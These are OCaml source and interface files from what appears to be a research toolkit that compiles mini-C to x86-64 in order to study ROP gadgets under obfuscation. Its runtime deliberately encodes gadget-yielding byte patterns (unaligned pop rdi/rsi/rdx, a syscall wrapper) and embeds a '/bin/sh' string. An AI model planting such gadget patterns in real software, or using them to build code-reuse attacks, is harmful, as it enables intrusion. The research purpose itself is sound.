  ins ctx (Insn.Mov (Insn.Reg Reg.RBP, Insn.Reg Reg.RSP));
  if save_scratch2 then ins ctx (Insn.Push scratch2);
  let fsize = frame_size ctx in
  if fsize > 0 then ins ctx (Insn.Sub (Insn.Reg Reg.RSP, Insn.Imm (Int64.of_int fsize)));
  (* spill incoming arguments to their temp slots *)
  List.iteri
    (fun k t ->
      if k >= List.length Reg.args then fail "%s: too many params" f.Gp_ir.Ir.f_name;
      ins ctx
        (Insn.Mov
           (Insn.Mem (Insn.mem ~disp:(temp_disp ctx t) Reg.RBP),
            Insn.Reg (List.nth Reg.args k))))
    f.Gp_ir.Ir.f_params;
  List.iter
    (fun (b : Gp_ir.Ir.block) ->
      emit ctx (Emit.Label b.Gp_ir.Ir.b_label);
      List.iter (sel_instr ctx) b.Gp_ir.Ir.b_instrs;
      sel_terminator ctx b.Gp_ir.Ir.b_term)
    f.Gp_ir.Ir.f_blocks;
  (List.rev ctx.items, ctx.jump_tables)

(* The runtime support routines every image links, standing in for the
   libc/csu code real binaries carry (DESIGN.md §2).  Their encodings are
   faithful to the real thing — in particular [__rt_restore]'s pop chain
   of REX-prefixed registers is byte-for-byte the pattern that gives real
   binaries their unaligned pop-rdi/rsi/rdx gadgets (e.g. 41 5F = pop
   r15; skipping the REX byte yields 5F = pop rdi). *)
let runtime_items =
  [ (* generic 3-argument syscall wrapper, like libc's syscall(2) *)
    Emit.Label "__rt_syscall3";
    Emit.Ins (Insn.Push Reg.RBP);
    Emit.Ins (Insn.Mov (Insn.Reg Reg.RBP, Insn.Reg Reg.RSP));
    Emit.Ins (Insn.Mov (Insn.Reg Reg.RAX, Insn.Reg Reg.RDI));
    Emit.Ins (Insn.Mov (Insn.Reg Reg.RDI, Insn.Reg Reg.RSI));
    Emit.Ins (Insn.Mov (Insn.Reg Reg.RSI, Insn.Reg Reg.RDX));
    Emit.Ins (Insn.Mov (Insn.Reg Reg.RDX, Insn.Reg Reg.RCX));
    Emit.Ins Insn.Syscall;
    Emit.Ins (Insn.Pop Reg.RBP);
    Emit.Ins Insn.Ret;
    (* register save/restore frame, like __libc_csu_init / a signal
       trampoline: saves the registers a runtime init would use, does its
       (empty) init-array walk, restores *)
    Emit.Label "__rt_restore";
    Emit.Ins (Insn.Push Reg.R15);
    Emit.Ins (Insn.Push Reg.R14);
    Emit.Ins (Insn.Push Reg.R13);
    Emit.Ins (Insn.Push Reg.R12);
    Emit.Ins (Insn.Push Reg.R11);
    Emit.Ins (Insn.Push Reg.R10);
    Emit.Ins (Insn.Push Reg.R9);
    Emit.Ins (Insn.Push Reg.R8);
    Emit.Ins (Insn.Push Reg.RBP);
    Emit.Ins (Insn.Push Reg.RBX);
    Emit.Ins Insn.Nop;
    Emit.Ins (Insn.Pop Reg.RBX);
    Emit.Ins (Insn.Pop Reg.RBP);
    Emit.Ins (Insn.Pop Reg.R8);
    Emit.Ins (Insn.Pop Reg.R9);
    Emit.Ins (Insn.Pop Reg.R10);
    Emit.Ins (Insn.Pop Reg.R11);
    Emit.Ins (Insn.Pop Reg.R12);
    Emit.Ins (Insn.Pop Reg.R13);
    Emit.Ins (Insn.Pop Reg.R14);
    Emit.Ins (Insn.Pop Reg.R15);
    Emit.Ins Insn.Ret;
    (* clamp(n): n > LIMIT ? LIMIT : n — the bounds-check shape every
       runtime carries (memcpy_chk, allocation guards).  Each branch is a
       conditional-setter gadget: rax = rdi under a condition on rdi. *)
    Emit.Label "__rt_clamp";
    Emit.Ins (Insn.Cmp (Insn.Reg Reg.RDI, Insn.Imm 0x10000L));
    Emit.JccL (Insn.G, "__rt_clamp.big");
    Emit.Ins (Insn.Mov (Insn.Reg Reg.RAX, Insn.Reg Reg.RDI));
    Emit.Ins Insn.Ret;
    Emit.Label "__rt_clamp.big";
    Emit.Ins (Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 0x10000L));
    Emit.Ins Insn.Ret;
    (* select(c, a, b): c ? a : b — how ternaries compile without cmov.
       The taken arm falls through a direct jump to the shared tail, so
       harvesting also yields merged (direct-jump) gadgets. *)
    Emit.Label "__rt_select";
    Emit.Ins (Insn.Test (Reg.RDI, Reg.RDI));
    Emit.JccL (Insn.E, "__rt_select.else");
    Emit.Ins (Insn.Mov (Insn.Reg Reg.RAX, Insn.Reg Reg.RSI));
    Emit.JmpL "__rt_select.end";
    Emit.Label "__rt_select.else";
    Emit.Ins (Insn.Mov (Insn.Reg Reg.RAX, Insn.Reg Reg.RDX));
    Emit.Label "__rt_select.end";
    Emit.Ins Insn.Ret;
    (* iabs(n): branchy absolute value, another conditional setter *)
    Emit.Label "__rt_iabs";
    Emit.Ins (Insn.Test (Reg.RDI, Reg.RDI));
    Emit.JccL (Insn.S, "__rt_iabs.neg");
    Emit.Ins (Insn.Mov (Insn.Reg Reg.RAX, Insn.Reg Reg.RDI));
    Emit.Ins Insn.Ret;
    Emit.Label "__rt_iabs.neg";
    Emit.Ins (Insn.Mov (Insn.Reg Reg.RAX, Insn.Reg Reg.RDI));
    Emit.Ins (Insn.Neg Reg.RAX);
    Emit.Ins Insn.Ret ]

(* Whole program -> image.  Adds the _start stub: runtime init, call
   main, exit(rax) through the syscall wrapper. *)
let compile_program (p : Gp_ir.Ir.program) : Gp_util.Image.t =
  let table_counter = ref 0 in
  let start_items =
    [ Emit.Label "_start";
      Emit.Ins (Insn.Mov (Insn.Reg Reg.RBP, Insn.Reg Reg.RSP));
      Emit.CallF "__rt_restore";
      Emit.Ins (Insn.Mov (Insn.Reg Reg.RDI, Insn.Imm 1L));
      Emit.Ins (Insn.Mov (Insn.Reg Reg.RSI, Insn.Imm 1L));
      Emit.Ins (Insn.Mov (Insn.Reg Reg.RDX, Insn.Imm 0L));
      Emit.CallF "__rt_select";
      Emit.Ins (Insn.Mov (Insn.Reg Reg.RDI, Insn.Reg Reg.RAX));
      Emit.CallF "__rt_clamp";
      Emit.Ins (Insn.Mov (Insn.Reg Reg.RDI, Insn.Reg Reg.RAX));
      Emit.CallF "__rt_iabs";
      Emit.CallF "main";
      Emit.Ins (Insn.Mov (Insn.Reg Reg.RSI, Insn.Reg Reg.RAX));
      Emit.Ins (Insn.Mov (Insn.Reg Reg.RDI, Insn.Imm 60L));
      Emit.Ins (Insn.Mov (Insn.Reg Reg.RDX, Insn.Imm 0L));
      Emit.Ins (Insn.Mov (Insn.Reg Reg.RCX, Insn.Imm 0L));
      Emit.CallF "__rt_syscall3";
      Emit.Ins Insn.Hlt ]
    @ runtime_items
  in
  let per_func = List.map (sel_func ~table_counter) p.Gp_ir.Ir.p_funcs in
  let items = start_items @ List.concat_map fst per_func in
  let jump_tables = List.concat_map snd per_func in
  let data =
    List.map (fun (d : Gp_ir.Ir.data) -> (d.Gp_ir.Ir.d_name, d.Gp_ir.Ir.d_bytes)) p.Gp_ir.Ir.p_data
    @ List.map
        (fun (name, labels) -> (name, Bytes.make (8 * Array.length labels) '\000'))
        jump_tables
    (* real libc carries "/bin/sh" for system(3); our runtime does too *)
    @ [ ("__rt_shell", Bytes.of_string "/bin/sh\000") ]
  in
  let func_names =
    "_start" :: "__rt_syscall3" :: "__rt_restore" :: "__rt_clamp"
    :: "__rt_select" :: "__rt_iabs"
    :: List.map (fun f -> f.Gp_ir.Ir.f_name) p.Gp_ir.Ir.p_funcs
  in
  Emit.assemble ~items ~data ~jump_tables ~func_names ~entry_label:"_start" ()
