(* End-to-end compilation: mini-C source -> binary image.

   [transform] is the obfuscation hook: an IR-to-IR pass pipeline is
   applied between lowering and instruction selection, mirroring where
   Obfuscator-LLVM sits in the real toolchain. *)

let compile ?(transform = fun (p : Gp_ir.Ir.program) -> p) (src : string) : Gp_util.Image.t =
  let ast = Gp_minic.Check.parse_and_check src in
  let ir = Gp_ir.Lower.lower_program ast in
  let ir = transform ir in
  Isel.compile_program ir

let compile_ir ?(transform = fun (p : Gp_ir.Ir.program) -> p) (ir : Gp_ir.Ir.program) :
    Gp_util.Image.t =
  Isel.compile_program (transform ir)

(* Parse + lower only (for obfuscation-pass unit tests). *)
let to_ir (src : string) : Gp_ir.Ir.program =
  Gp_ir.Lower.lower_program (Gp_minic.Check.parse_and_check src)
