lib/codegen/emit.mli: Bytes Gp_util Gp_x86
