lib/codegen/emit.ml: Array Buffer Bytes Encode Gp_util Gp_x86 Hashtbl Insn Int64 List Option Printf Reg
