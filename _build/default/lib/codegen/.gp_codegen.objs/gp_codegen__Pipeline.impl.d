lib/codegen/pipeline.ml: Gp_ir Gp_minic Gp_util Isel
