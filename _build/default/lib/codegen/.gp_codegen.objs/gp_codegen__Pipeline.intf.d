lib/codegen/pipeline.mli: Gp_ir Gp_util
