lib/codegen/isel.ml: Array Bytes Emit Encode Gp_ir Gp_util Gp_x86 Hashtbl Insn Int64 List Option Printf Reg
