lib/codegen/isel.mli: Emit Gp_ir Gp_util
