(** End-to-end compilation: mini-C source -> binary image.

    [transform] is the obfuscation hook: an IR-to-IR pass pipeline
    applied between lowering and instruction selection, mirroring where
    Obfuscator-LLVM sits in the real toolchain. *)

val compile :
  ?transform:(Gp_ir.Ir.program -> Gp_ir.Ir.program) -> string -> Gp_util.Image.t
(** Parse, check, lower, transform, select, assemble. *)

val compile_ir :
  ?transform:(Gp_ir.Ir.program -> Gp_ir.Ir.program) ->
  Gp_ir.Ir.program ->
  Gp_util.Image.t

val to_ir : string -> Gp_ir.Ir.program
(** Parse + lower only (for obfuscation-pass unit tests). *)
