(* Instruction AST for the x86-64 subset.

   The subset is chosen so that (a) the code generator can compile the
   mini-C corpus, (b) obfuscation output (dispatch loops, opaque
   predicates, jump tables) is expressible, and (c) every gadget shape the
   paper discusses exists: ret-ended, unconditional/conditional
   direct/indirect jumps, call-reg, syscall. *)

type cond =
  | O | NO | B | AE | E | NE | BE | A | S | NS | P | NP | L | GE | LE | G

(* Hardware condition-code number (used as 0x70+cc / 0x0F 0x80+cc). *)
let cond_number = function
  | O -> 0 | NO -> 1 | B -> 2 | AE -> 3 | E -> 4 | NE -> 5 | BE -> 6 | A -> 7
  | S -> 8 | NS -> 9 | P -> 10 | NP -> 11 | L -> 12 | GE -> 13 | LE -> 14 | G -> 15

let cond_of_number = function
  | 0 -> O | 1 -> NO | 2 -> B | 3 -> AE | 4 -> E | 5 -> NE | 6 -> BE | 7 -> A
  | 8 -> S | 9 -> NS | 10 -> P | 11 -> NP | 12 -> L | 13 -> GE | 14 -> LE | 15 -> G
  | n -> invalid_arg (Printf.sprintf "cond_of_number: %d" n)

let cond_name = function
  | O -> "o" | NO -> "no" | B -> "b" | AE -> "ae" | E -> "e" | NE -> "ne"
  | BE -> "be" | A -> "a" | S -> "s" | NS -> "ns" | P -> "p" | NP -> "np"
  | L -> "l" | GE -> "ge" | LE -> "le" | G -> "g"

let cond_negate = function
  | O -> NO | NO -> O | B -> AE | AE -> B | E -> NE | NE -> E | BE -> A
  | A -> BE | S -> NS | NS -> S | P -> NP | NP -> P | L -> GE | GE -> L
  | LE -> G | G -> LE

(* [base + disp]; no index/scale — the code generator synthesizes scaled
   accesses with shl/add, which keeps both encoder and decoder small. *)
type mem = { base : Reg.t; disp : int }

type operand = Reg of Reg.t | Imm of int64 | Mem of mem

type t =
  | Mov of operand * operand       (* dst, src *)
  | Movabs of Reg.t * int64        (* 64-bit immediate load *)
  | Lea of Reg.t * mem
  | Push of Reg.t
  | PushImm of int                 (* sign-extended imm32 *)
  | Pop of Reg.t
  | Add of operand * operand
  | Sub of operand * operand
  | And_ of operand * operand
  | Or_ of operand * operand
  | Xor of operand * operand
  | Cmp of operand * operand
  | Test of Reg.t * Reg.t
  | Imul of Reg.t * Reg.t
  | Shl of Reg.t * int
  | Shr of Reg.t * int
  | Sar of Reg.t * int
  | Inc of Reg.t
  | Dec of Reg.t
  | Neg of Reg.t
  | Not_ of Reg.t
  | Xchg of Reg.t * Reg.t
  | Jmp of int                     (* rel32, relative to next instruction *)
  | JmpReg of Reg.t
  | JmpMem of mem
  | Jcc of cond * int
  | Call of int
  | CallReg of Reg.t
  | CallMem of mem
  | Ret
  | RetImm of int
  | Leave
  | Syscall
  | Nop
  | Int3
  | Hlt

let mem ?(disp = 0) base = { base; disp }

let string_of_mem m =
  if m.disp = 0 then Printf.sprintf "[%s]" (Reg.name m.base)
  else if m.disp > 0 then Printf.sprintf "[%s+0x%x]" (Reg.name m.base) m.disp
  else Printf.sprintf "[%s-0x%x]" (Reg.name m.base) (-m.disp)

let string_of_operand = function
  | Reg r -> Reg.name r
  | Imm i -> Printf.sprintf "0x%Lx" i
  | Mem m -> string_of_mem m

let to_string insn =
  let op2 name a b =
    Printf.sprintf "%s %s, %s" name (string_of_operand a) (string_of_operand b)
  in
  match insn with
  | Mov (d, s) -> op2 "mov" d s
  | Movabs (r, i) -> Printf.sprintf "movabs %s, 0x%Lx" (Reg.name r) i
  | Lea (r, m) -> Printf.sprintf "lea %s, %s" (Reg.name r) (string_of_mem m)
  | Push r -> "push " ^ Reg.name r
  | PushImm i -> Printf.sprintf "push 0x%x" i
  | Pop r -> "pop " ^ Reg.name r
  | Add (d, s) -> op2 "add" d s
  | Sub (d, s) -> op2 "sub" d s
  | And_ (d, s) -> op2 "and" d s
  | Or_ (d, s) -> op2 "or" d s
  | Xor (d, s) -> op2 "xor" d s
  | Cmp (d, s) -> op2 "cmp" d s
  | Test (a, b) -> Printf.sprintf "test %s, %s" (Reg.name a) (Reg.name b)
  | Imul (a, b) -> Printf.sprintf "imul %s, %s" (Reg.name a) (Reg.name b)
  | Shl (r, n) -> Printf.sprintf "shl %s, %d" (Reg.name r) n
  | Shr (r, n) -> Printf.sprintf "shr %s, %d" (Reg.name r) n
  | Sar (r, n) -> Printf.sprintf "sar %s, %d" (Reg.name r) n
  | Inc r -> "inc " ^ Reg.name r
  | Dec r -> "dec " ^ Reg.name r
  | Neg r -> "neg " ^ Reg.name r
  | Not_ r -> "not " ^ Reg.name r
  | Xchg (a, b) -> Printf.sprintf "xchg %s, %s" (Reg.name a) (Reg.name b)
  | Jmp rel -> Printf.sprintf "jmp %+d" rel
  | JmpReg r -> "jmp " ^ Reg.name r
  | JmpMem m -> "jmp " ^ string_of_mem m
  | Jcc (c, rel) -> Printf.sprintf "j%s %+d" (cond_name c) rel
  | Call rel -> Printf.sprintf "call %+d" rel
  | CallReg r -> "call " ^ Reg.name r
  | CallMem m -> "call " ^ string_of_mem m
  | Ret -> "ret"
  | RetImm n -> Printf.sprintf "ret 0x%x" n
  | Leave -> "leave"
  | Syscall -> "syscall"
  | Nop -> "nop"
  | Int3 -> "int3"
  | Hlt -> "hlt"

(* Does this instruction end a straight-line run (i.e. transfer control)? *)
let is_terminator = function
  | Jmp _ | JmpReg _ | JmpMem _ | Jcc _ | Call _ | CallReg _ | CallMem _
  | Ret | RetImm _ | Syscall | Hlt | Int3 -> true
  | _ -> false
