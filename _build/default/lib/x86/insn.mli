(** Instruction AST for the x86-64 subset.

    The subset is chosen so that (a) the code generator can compile the
    mini-C corpus, (b) obfuscation output (dispatch loops, opaque
    predicates, jump tables) is expressible, and (c) every gadget shape
    the paper discusses exists: ret-ended, unconditional/conditional
    direct/indirect jumps, call-reg, syscall. *)

(** Condition codes, in hardware-number order. *)
type cond =
  | O | NO | B | AE | E | NE | BE | A | S | NS | P | NP | L | GE | LE | G

val cond_number : cond -> int
(** Hardware condition-code number (used as [0x70+cc] / [0x0F 0x80+cc]). *)

val cond_of_number : int -> cond
val cond_name : cond -> string

val cond_negate : cond -> cond
(** The complementary condition ([E] <-> [NE], [L] <-> [GE], ...). *)

type mem = { base : Reg.t; disp : int }
(** A [base + displacement] memory operand.  No index/scale — the code
    generator synthesizes scaled accesses with shl/add, which keeps both
    encoder and decoder small. *)

type operand = Reg of Reg.t | Imm of int64 | Mem of mem

type t =
  | Mov of operand * operand       (** destination, source *)
  | Movabs of Reg.t * int64        (** 64-bit immediate load *)
  | Lea of Reg.t * mem
  | Push of Reg.t
  | PushImm of int                 (** sign-extended imm32 *)
  | Pop of Reg.t
  | Add of operand * operand
  | Sub of operand * operand
  | And_ of operand * operand
  | Or_ of operand * operand
  | Xor of operand * operand
  | Cmp of operand * operand
  | Test of Reg.t * Reg.t
  | Imul of Reg.t * Reg.t
  | Shl of Reg.t * int
  | Shr of Reg.t * int
  | Sar of Reg.t * int
  | Inc of Reg.t
  | Dec of Reg.t
  | Neg of Reg.t
  | Not_ of Reg.t
  | Xchg of Reg.t * Reg.t
  | Jmp of int                     (** rel32, relative to next instruction *)
  | JmpReg of Reg.t
  | JmpMem of mem
  | Jcc of cond * int
  | Call of int
  | CallReg of Reg.t
  | CallMem of mem
  | Ret
  | RetImm of int
  | Leave
  | Syscall
  | Nop
  | Int3
  | Hlt

val mem : ?disp:int -> Reg.t -> mem
(** [mem ~disp base] builds a memory operand; [disp] defaults to 0. *)

val string_of_mem : mem -> string
val string_of_operand : operand -> string

val to_string : t -> string
(** Intel-flavoured rendering, e.g. ["mov rax, [rbp-0x18]"]. *)

val is_terminator : t -> bool
(** Does this instruction end a straight-line run (transfer control)? *)
