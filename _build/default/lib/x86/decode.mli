(** x86-64 decoder for the encoder's subset.

    May be pointed at ANY byte offset — including the middle of an
    encoded instruction — and either produces an instruction or rejects
    the bytes.  This makes unaligned gadget harvesting possible: bytes of
    immediates and displacements re-decode as different instructions,
    exactly as on real hardware.  Unknown opcodes yield [None] rather
    than an exception so callers can slide a window over raw code. *)

val decode : ?limit:int -> Bytes.t -> int -> (Insn.t * int) option
(** [decode bytes pos] decodes one instruction starting at byte [pos],
    returning it with its encoded length, or [None] when the bytes are
    not in the subset.  [limit] caps readable bytes (default: the whole
    buffer); running past it rejects. *)

val decode_run :
  ?max_insns:int -> ?limit:int -> Bytes.t -> int -> (Insn.t * int * int) list option
(** Decode consecutive instructions up to and including the first
    terminator (see {!Insn.is_terminator}).  Returns
    [(insn, offset_from_start, length)] triples, or [None] if any byte
    fails to decode or no terminator appears within [max_insns]
    (default 64). *)
