(** x86-64 machine-code encoder.

    Emits genuine REX/ModRM/SIB encodings for the subset in {!Insn}.
    Real encodings matter: gadget harvesting decodes the byte stream at
    arbitrary offsets, so instruction lengths and immediate placement
    must look like the real ISA for the paper's phenomena (e.g. a 0xC3
    inside an immediate becoming a ret gadget) to arise. *)

exception Unencodable of string
(** Raised for operand shapes outside the subset (mem-to-mem moves,
    immediates beyond 32 bits where the form doesn't allow them, ...). *)

val fits_imm32 : int64 -> bool
(** Does the value survive a sign-extended 32-bit immediate? *)

val fits_imm32_int : int -> bool

val to_buffer : Buffer.t -> Insn.t -> unit
(** Append one instruction's bytes. *)

val insn : Insn.t -> Bytes.t
(** Encode one instruction. *)

val length : Insn.t -> int
(** Encoded length in bytes. *)

val insns : Insn.t list -> Bytes.t
(** Concatenated encoding of an instruction sequence. *)
