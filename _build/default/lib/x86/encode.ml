(* x86-64 machine-code encoder.

   Emits genuine REX/ModRM/SIB encodings for the subset in [Insn].  Real
   encodings matter here: gadget harvesting decodes the byte stream at
   arbitrary offsets, so instruction lengths and immediate placement have
   to look like the real ISA for the paper's phenomena (e.g. a 0xC3 inside
   an immediate becoming a ret gadget) to arise. *)

exception Unencodable of string

let fits_imm32 (i : int64) = Int64.of_int32 (Int64.to_int32 i) = i
let fits_imm32_int (i : int) = i >= Int32.to_int Int32.min_int && i <= Int32.to_int Int32.max_int

type rm = RmReg of Reg.t | RmMem of Insn.mem

let buf_i32 buf (v : int) =
  Buffer.add_char buf (Char.chr (v land 0xff));
  Buffer.add_char buf (Char.chr ((v asr 8) land 0xff));
  Buffer.add_char buf (Char.chr ((v asr 16) land 0xff));
  Buffer.add_char buf (Char.chr ((v asr 24) land 0xff))

let buf_i64 buf (v : int64) =
  for k = 0 to 7 do
    Buffer.add_char buf
      (Char.chr (Int64.to_int (Int64.logand (Int64.shift_right_logical v (8 * k)) 0xffL)))
  done

(* ModRM (+ optional SIB + displacement).  Returns the REX.R / REX.B bits
   the caller must fold into the prefix, and a closure that emits the
   ModRM tail once the opcode is out. *)
let modrm ~reg_num rm =
  let rex_r = if reg_num >= 8 then 1 else 0 in
  let reg3 = reg_num land 7 in
  match rm with
  | RmReg r ->
    let n = Reg.number r in
    let rex_b = if n >= 8 then 1 else 0 in
    let emit buf = Buffer.add_char buf (Char.chr (0xC0 lor (reg3 lsl 3) lor (n land 7))) in
    (rex_r, rex_b, emit)
  | RmMem { base; disp } ->
    if not (fits_imm32_int disp) then raise (Unencodable "mem displacement too large");
    let n = Reg.number base in
    let rex_b = if n >= 8 then 1 else 0 in
    let b3 = n land 7 in
    let need_sib = b3 = 4 in
    (* mod=00 with base rbp/r13 means RIP-relative, so force disp8 there *)
    let md =
      if disp = 0 && b3 <> 5 then 0
      else if disp >= -128 && disp <= 127 then 1
      else 2
    in
    let emit buf =
      let rm_field = if need_sib then 4 else b3 in
      Buffer.add_char buf (Char.chr ((md lsl 6) lor (reg3 lsl 3) lor rm_field));
      if need_sib then
        (* scale=1, no index (100), base in low bits *)
        Buffer.add_char buf (Char.chr (0x20 lor b3));
      (match md with
       | 0 -> ()
       | 1 -> Buffer.add_char buf (Char.chr (disp land 0xff))
       | _ -> buf_i32 buf disp)
    in
    (rex_r, rex_b, emit)

let rex ~w ~r ~x ~b = 0x40 lor (w lsl 3) lor (r lsl 2) lor (x lsl 1) lor b

(* Emit one full [REX] opcode ModRM... instruction with 64-bit operand size. *)
let emit_w buf ?(opc2 = -1) ~opc ~reg_num rm =
  let rex_r, rex_b, tail = modrm ~reg_num rm in
  Buffer.add_char buf (Char.chr (rex ~w:1 ~r:rex_r ~x:0 ~b:rex_b));
  if opc2 >= 0 then Buffer.add_char buf (Char.chr opc2);
  Buffer.add_char buf (Char.chr opc);
  tail buf

(* Same but without REX.W (and prefix omitted entirely when possible). *)
let emit_nw buf ~opc ~reg_num rm =
  let rex_r, rex_b, tail = modrm ~reg_num rm in
  if rex_r lor rex_b <> 0 then
    Buffer.add_char buf (Char.chr (rex ~w:0 ~r:rex_r ~x:0 ~b:rex_b));
  Buffer.add_char buf (Char.chr opc);
  tail buf

(* ALU family: opc_mr = "r/m, r" form, opc_rm = "r, r/m" form, ext =
   /digit for the 0x81 immediate form. *)
let alu buf ~opc_mr ~opc_rm ~ext dst src =
  let open Insn in
  match dst, src with
  | Reg d, Reg s -> emit_w buf ~opc:opc_mr ~reg_num:(Reg.number s) (RmReg d)
  | Mem m, Reg s -> emit_w buf ~opc:opc_mr ~reg_num:(Reg.number s) (RmMem m)
  | Reg d, Mem m -> emit_w buf ~opc:opc_rm ~reg_num:(Reg.number d) (RmMem m)
  | Reg d, Imm i ->
    if not (fits_imm32 i) then raise (Unencodable "alu imm does not fit in 32 bits");
    emit_w buf ~opc:0x81 ~reg_num:ext (RmReg d);
    buf_i32 buf (Int64.to_int (Int64.logand i 0xFFFFFFFFL))
  | Mem m, Imm i ->
    if not (fits_imm32 i) then raise (Unencodable "alu imm does not fit in 32 bits");
    emit_w buf ~opc:0x81 ~reg_num:ext (RmMem m);
    buf_i32 buf (Int64.to_int (Int64.logand i 0xFFFFFFFFL))
  | Imm _, _ -> raise (Unencodable "alu: immediate destination")
  | Mem _, Mem _ -> raise (Unencodable "alu: mem, mem")

let to_buffer buf insn =
  let open Insn in
  match insn with
  | Mov (Reg d, Reg s) -> emit_w buf ~opc:0x89 ~reg_num:(Reg.number s) (RmReg d)
  | Mov (Mem m, Reg s) -> emit_w buf ~opc:0x89 ~reg_num:(Reg.number s) (RmMem m)
  | Mov (Reg d, Mem m) -> emit_w buf ~opc:0x8B ~reg_num:(Reg.number d) (RmMem m)
  | Mov (Reg d, Imm i) ->
    if not (fits_imm32 i) then raise (Unencodable "mov imm needs movabs");
    emit_w buf ~opc:0xC7 ~reg_num:0 (RmReg d);
    buf_i32 buf (Int64.to_int (Int64.logand i 0xFFFFFFFFL))
  | Mov (Mem m, Imm i) ->
    if not (fits_imm32 i) then raise (Unencodable "mov mem imm needs imm32");
    emit_w buf ~opc:0xC7 ~reg_num:0 (RmMem m);
    buf_i32 buf (Int64.to_int (Int64.logand i 0xFFFFFFFFL))
  | Mov (Imm _, _) | Mov (Mem _, Mem _) -> raise (Unencodable "mov operands")
  | Movabs (r, i) ->
    let n = Reg.number r in
    Buffer.add_char buf (Char.chr (rex ~w:1 ~r:0 ~x:0 ~b:(if n >= 8 then 1 else 0)));
    Buffer.add_char buf (Char.chr (0xB8 lor (n land 7)));
    buf_i64 buf i
  | Lea (r, m) -> emit_w buf ~opc:0x8D ~reg_num:(Reg.number r) (RmMem m)
  | Push r ->
    let n = Reg.number r in
    if n >= 8 then Buffer.add_char buf (Char.chr (rex ~w:0 ~r:0 ~x:0 ~b:1));
    Buffer.add_char buf (Char.chr (0x50 lor (n land 7)))
  | PushImm i ->
    if not (fits_imm32_int i) then raise (Unencodable "push imm32");
    Buffer.add_char buf '\x68';
    buf_i32 buf i
  | Pop r ->
    let n = Reg.number r in
    if n >= 8 then Buffer.add_char buf (Char.chr (rex ~w:0 ~r:0 ~x:0 ~b:1));
    Buffer.add_char buf (Char.chr (0x58 lor (n land 7)))
  | Add (d, s) -> alu buf ~opc_mr:0x01 ~opc_rm:0x03 ~ext:0 d s
  | Or_ (d, s) -> alu buf ~opc_mr:0x09 ~opc_rm:0x0B ~ext:1 d s
  | And_ (d, s) -> alu buf ~opc_mr:0x21 ~opc_rm:0x23 ~ext:4 d s
  | Sub (d, s) -> alu buf ~opc_mr:0x29 ~opc_rm:0x2B ~ext:5 d s
  | Xor (d, s) -> alu buf ~opc_mr:0x31 ~opc_rm:0x33 ~ext:6 d s
  | Cmp (d, s) -> alu buf ~opc_mr:0x39 ~opc_rm:0x3B ~ext:7 d s
  | Test (a, b) -> emit_w buf ~opc:0x85 ~reg_num:(Reg.number b) (RmReg a)
  | Imul (d, s) -> emit_w buf ~opc2:0x0F ~opc:0xAF ~reg_num:(Reg.number d) (RmReg s)
  | Shl (r, n) ->
    emit_w buf ~opc:0xC1 ~reg_num:4 (RmReg r);
    Buffer.add_char buf (Char.chr (n land 0x3f))
  | Shr (r, n) ->
    emit_w buf ~opc:0xC1 ~reg_num:5 (RmReg r);
    Buffer.add_char buf (Char.chr (n land 0x3f))
  | Sar (r, n) ->
    emit_w buf ~opc:0xC1 ~reg_num:7 (RmReg r);
    Buffer.add_char buf (Char.chr (n land 0x3f))
  | Inc r -> emit_w buf ~opc:0xFF ~reg_num:0 (RmReg r)
  | Dec r -> emit_w buf ~opc:0xFF ~reg_num:1 (RmReg r)
  | Neg r -> emit_w buf ~opc:0xF7 ~reg_num:3 (RmReg r)
  | Not_ r -> emit_w buf ~opc:0xF7 ~reg_num:2 (RmReg r)
  | Xchg (a, b) -> emit_w buf ~opc:0x87 ~reg_num:(Reg.number b) (RmReg a)
  | Jmp rel ->
    Buffer.add_char buf '\xE9';
    buf_i32 buf rel
  | JmpReg r -> emit_nw buf ~opc:0xFF ~reg_num:4 (RmReg r)
  | JmpMem m -> emit_nw buf ~opc:0xFF ~reg_num:4 (RmMem m)
  | Jcc (c, rel) ->
    Buffer.add_char buf '\x0F';
    Buffer.add_char buf (Char.chr (0x80 lor Insn.cond_number c));
    buf_i32 buf rel
  | Call rel ->
    Buffer.add_char buf '\xE8';
    buf_i32 buf rel
  | CallReg r -> emit_nw buf ~opc:0xFF ~reg_num:2 (RmReg r)
  | CallMem m -> emit_nw buf ~opc:0xFF ~reg_num:2 (RmMem m)
  | Ret -> Buffer.add_char buf '\xC3'
  | RetImm n ->
    Buffer.add_char buf '\xC2';
    Buffer.add_char buf (Char.chr (n land 0xff));
    Buffer.add_char buf (Char.chr ((n lsr 8) land 0xff))
  | Leave -> Buffer.add_char buf '\xC9'
  | Syscall ->
    Buffer.add_char buf '\x0F';
    Buffer.add_char buf '\x05'
  | Nop -> Buffer.add_char buf '\x90'
  | Int3 -> Buffer.add_char buf '\xCC'
  | Hlt -> Buffer.add_char buf '\xF4'

let insn i =
  let buf = Buffer.create 16 in
  to_buffer buf i;
  Buffer.to_bytes buf

let length i = Bytes.length (insn i)

let insns is =
  let buf = Buffer.create 256 in
  List.iter (to_buffer buf) is;
  Buffer.to_bytes buf
