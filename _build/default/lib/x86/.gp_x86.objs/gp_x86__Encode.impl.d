lib/x86/encode.ml: Buffer Bytes Char Insn Int32 Int64 List Reg
