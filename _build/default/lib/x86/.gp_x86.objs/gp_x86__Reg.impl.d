lib/x86/reg.ml: Printf String
