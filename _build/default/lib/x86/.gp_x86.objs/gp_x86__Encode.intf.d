lib/x86/encode.mli: Buffer Bytes Insn
