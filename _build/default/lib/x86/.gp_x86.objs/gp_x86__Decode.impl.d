lib/x86/decode.ml: Bytes Insn Int64 List Reg
