lib/x86/insn.mli: Reg
