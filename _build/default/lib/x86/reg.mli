(** The 16 x86-64 general-purpose registers. *)

type t =
  | RAX | RCX | RDX | RBX | RSP | RBP | RSI | RDI
  | R8 | R9 | R10 | R11 | R12 | R13 | R14 | R15

val all : t list
(** All sixteen, in hardware-number order. *)

val number : t -> int
(** Hardware encoding number: low 3 bits go in ModRM/opcode, bit 3 in the
    REX prefix. *)

val of_number : int -> t
(** Inverse of {!number}; raises [Invalid_argument] outside [0,15]. *)

val name : t -> string
(** Lower-case assembly name, e.g. ["rdi"]. *)

val of_name : string -> t
(** Inverse of {!name} (case-insensitive); raises [Invalid_argument]. *)

val equal : t -> t -> bool
val compare : t -> t -> int

val args : t list
(** System V AMD64 argument registers, in order:
    rdi, rsi, rdx, rcx, r8, r9. *)
