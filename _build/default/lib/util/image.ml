(* Flat binary image: the loadable artifact every analysis consumes.

   Stands in for an ELF executable (see DESIGN.md): all the tools in the
   paper scan the executable byte range of the binary, so the container
   format is incidental.  We keep code and data as two contiguous regions
   plus a symbol table for diagnostics. *)

